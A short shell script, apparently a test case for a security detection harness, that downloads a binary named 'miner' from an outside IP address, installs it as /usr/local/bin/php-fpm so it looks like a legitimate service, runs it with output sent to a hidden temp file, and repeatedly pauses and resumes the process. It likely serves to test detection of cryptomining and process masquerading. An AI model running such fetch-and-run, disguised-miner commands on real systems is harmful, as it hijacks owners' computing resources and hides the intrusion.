#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/local/bin/php-fpm http://203.0.113.10/programs/miner && chmod 755 /usr/local/bin/php-fpm
/usr/local/bin/php-fpm >/tmp/.o 2>&1 & m=$!
sleep 0.3
for n in $(seq 1 20); do kill -STOP $m 2>/dev/null || true; sleep 0.07; kill -CONT $m 2>/dev/null || true; sleep 0.03; done
wait $m || true
grep -q job_id /tmp/.o
took_place
